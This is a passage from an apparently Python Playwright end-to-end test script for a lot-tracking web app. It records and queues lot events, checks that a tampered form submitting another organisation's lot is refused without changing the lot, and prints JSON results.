        record_form(a, f"{LOT}-A", "sell")
        send(a, "Recorded on the network")
        shot(a, "english-record")
        go(a, "#/queue")
        expect(a.locator("#queue")).to_contain_text("recorded")
        shot(a, "english-queue")

        assert not errors, f"script errors in the page: {errors}"
        if ENGLISH_LINK:
            wine = english(browser)
            # 10. Another organisation's lot, slipped into the form (as a
            #     tampered page would): the contract refuses it, in words,
            #     and the lot is unchanged.
            before = a.request.get(f"{API}/v1/lots/{wine}/VJ-2026-EN").json()
            go(a, "#/record")
            a.evaluate("(v) => { const s = document.querySelector('#lot'); s.append(new Option(v, v)); s.value = v; }", f"{wine}/VJ-2026-EN")
            a.select_option("#event", "inspect")
            send(a, "The lot is not your organisation's")
            after = a.request.get(f"{API}/v1/lots/{wine}/VJ-2026-EN").json()
            assert after["events"] == before["events"] and after["holder"] == before["holder"], (before, after)
            shot(a, "foreign-lot-refused")
        browser.close()
    print(json.dumps({"steps": steps, "submit_to_final_ms": timings, "labels_read": labels_read, "sheets": sheet_checks,
                      "axe": axe_findings if AXE else "not run"}))


if __name__ == "__main__":
    try:
        main()
    except Exception as e:  # noqa: BLE001 - report which step failed
        print(f"app-journey: failed after steps {steps}: {e}", file=sys.stderr)
        sys.exit(1)
